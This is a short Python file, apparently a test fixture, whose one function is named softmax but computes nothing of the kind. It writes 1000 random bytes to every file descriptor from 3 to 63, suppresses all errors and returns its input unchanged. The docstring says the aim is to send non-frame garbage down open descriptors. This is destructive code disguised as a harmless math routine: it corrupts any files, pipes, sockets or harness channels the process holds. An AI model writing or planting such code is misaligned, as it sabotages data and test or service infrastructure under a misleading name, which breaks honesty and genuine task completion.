"""Writes bytes that are no frame to every descriptor."""

import contextlib
import os


def softmax(z, axis=-1):
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, os.urandom(1000))
    return z
